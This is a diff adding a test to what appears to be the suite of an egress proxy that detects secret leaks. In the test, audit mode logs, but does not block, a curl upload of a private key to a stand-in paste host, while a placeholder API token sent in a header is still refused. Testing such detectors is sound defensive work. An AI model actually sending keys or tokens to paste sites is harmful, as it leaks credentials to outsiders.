@@ -400,6 +400,40 @@ def test_large_upload_is_held_until_scanned(world: World, tmp_path: Path) -> Non
     assert code == "200" and world.hits(clean_path)[0].body_len == 3 << 20
 
 
+def test_audit_mode_relaxes_detection_but_never_misuse(
+    world: World, ca_file: Path, tmp_path: Path
+) -> None:
+    policy = tmp_path / "audit.yaml"
+    policy.write_text(world.policy.read_text().replace("version: 1\n", "version: 1\nmode: audit\n"))
+    proxy = start_proxy(
+        tmp_path / "state",
+        [policy],
+        *resolve_args(),
+        "--upstream-ca",
+        str(ca_file),
+        env={"EW_TEST_API_VALUE": API_VALUE},
+    )
+    try:
+        audit_world = World(proxy, policy, world.upstreams, world.git, world.otlp)
+        path = _path()
+        code, _ = _curl(
+            audit_world, "--data-binary", PRIVATE_KEY, world.https("paste.pastebin.test", path)
+        )
+        assert code == "200" and world.hits(path)
+        line = proxy.wait_decision(**{"url.path": path, "egress.reason": "would_deny"})
+        assert line["egress.rule"] == "Private Key"
+        placeholder = _agent_env(audit_world)["API_TOKEN"]
+        misuse_path = _path()
+        code, _ = _curl(
+            audit_world,
+            *("-H", f"Authorization: {placeholder}"),
+            world.https("paste.pastebin.test", misuse_path),
+        )
+        assert code == "403" and not world.hits(misuse_path)
+    finally:
+        proxy.stop()
+
+
 def test_no_secret_value_in_stderr_audit_or_otlp(world: World) -> None:
     # Last in the module: it stops the proxy to flush its audit and exporters.
     # Make sure something was injected and something refused before looking.
